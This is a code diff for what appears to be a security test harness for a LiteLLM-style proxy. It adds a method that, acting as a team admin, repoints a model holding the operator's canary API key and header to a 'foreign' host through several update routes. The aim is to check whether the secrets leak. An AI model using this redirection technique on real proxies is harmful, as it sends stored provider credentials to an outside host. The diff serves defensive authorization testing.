@@ -67,6 +67,7 @@ export class Walk {
   async writeAndUse(): Promise<void> {
     await this.write(this.routes.filter(({ name }) => !TAKES_AWAY.test(name)));
     await this.tryProviders();
+    await this.redirect();
     await this.use();
     await waitFor('the callbacks of the operator', () => this.hasReported(), 30_000);
   }
@@ -136,6 +137,40 @@ export class Walk {
     await inParallel(bases, async (litellm_params) => {
       const body = { model_name: `at-${this.newId()}`, litellm_params, model_info: { team_id } };
       for (const route of ['POST /model/new', TRIAL]) await this.call(route, this.callers.teamAdmin, body);
+    });
+  }
+
+  /** What the operator gave models of the team: each is led to a foreign host by every way there is, and called. */
+  private async redirect(): Promise<void> {
+    const { guarded, callers } = this;
+    const { team_id } = callers.ids;
+    const secret = (name: string): string => guarded.canaries.make(`the operator's ${name} in a model of the team`);
+    const given = { model: 'openai/x', api_base: `${guarded.own.origin}/v1`, api_key: secret('key') };
+    const litellm_params = { ...given, extra_headers: { 'x-own': secret('header') } };
+    const changes = addressesAt(guarded.foreign.origin)
+      .slice(0, 2)
+      .flatMap((address) =>
+        ['openai', 'anthropic', 'azure'].flatMap((prefix) =>
+          ['api_base', 'base_url'].map((member) => ({ model: `${prefix}/x`, api_version: '1', [member]: address })),
+        ),
+      );
+    await inParallel(changes, async (change) => {
+      const model_name = `given-${this.newId()}`;
+      const { model_id } = await guarded.ask<{ model_id: string }>('POST /model/new', {
+        model_name,
+        litellm_params,
+        model_info: { team_id },
+      });
+      const updates: readonly (readonly [string, object])[] = [
+        ['POST /model/update', { model_info: { id: model_id }, litellm_params: change }],
+        [`PATCH /model/${model_id}/update`, { litellm_params: change }],
+        [`PATCH /model/${model_id}/update`, { litellm_params: { ...change, api_key: 'of the team' } }],
+        [`PATCH /model/${model_id}/update`, { litellm_params: { ...change, extra_headers: {} } }],
+      ];
+      for (const [route, body] of updates) {
+        await this.call(route, callers.teamAdmin, body);
+        await this.call('POST /v1/chat/completions', callers.teamAdmin, { ...ASKED, model: model_name });
+      }
     });
   }
 
